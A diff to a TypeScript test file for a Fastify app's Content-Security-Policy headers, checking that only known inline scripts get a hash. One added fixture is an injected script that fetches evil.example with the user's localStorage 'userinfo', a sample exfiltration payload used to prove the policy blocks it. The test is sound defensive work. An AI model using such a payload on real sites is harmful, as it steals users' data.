@@ -7,7 +7,7 @@ import { createTestContext, type TestContext } from '../../test/context.js';
 import { createLoggedInUser } from '../../test/factories.js';
 import { buildApp } from '../app.js';
 import { sendHtml } from './compressed-html.js';
-import { registerSecurityHeaders } from './security-headers.js';
+import { knownScripts, registerSecurityHeaders } from './security-headers.js';
 
 let t: TestContext;
 let web: FastifyInstance;
@@ -108,20 +108,26 @@ describe('security headers', () => {
     expect(plain.headers['strict-transport-security']).toBeUndefined();
   });
 
-  it('a server-rendered page allows its own inline script by hash, and nothing else inline', async () => {
+  it('a server-rendered page allows its known inline script by hash, and nothing else inline', async () => {
     const pages = Fastify();
     await registerSecurityHeaders(pages);
+    // The page's content carries a script that got past everything else: it is not one the server's
+    // templates write, so the policy gives it no hash and the browser refuses to run it.
+    const injected = 'fetch("https://evil.example/?t="+localStorage.getItem("userinfo"))';
     pages.get('/home', (request, reply) =>
       sendHtml(
         request,
         reply,
-        `<html><head><script>${BOOT}</script><script type="module" src="/a.js"></script></head></html>`,
+        `<html><head><script>${BOOT}</script><script type="module" src="/a.js"></script></head><body><p>News</p><script>${injected}</script></body></html>`,
+        'rendered',
+        knownScripts([BOOT]),
       ),
     );
     const response = await pages.inject({ method: 'GET', url: '/home' });
     const csp = directives(response.headers['content-security-policy']);
-    const hash = `'sha256-${createHash('sha256').update(BOOT).digest('base64')}'`;
-    expect(csp['script-src']).toEqual(["'self'", hash]);
+    const hashOf = (script: string) => `'sha256-${createHash('sha256').update(script).digest('base64')}'`;
+    expect(csp['script-src']).toEqual(["'self'", hashOf(BOOT)]);
+    expect(csp['script-src']).not.toContain(hashOf(injected));
     expect(csp['script-src']).not.toContain("'unsafe-inline'");
     expect(csp['frame-ancestors']).toEqual(["'none'"]);
     await pages.close();
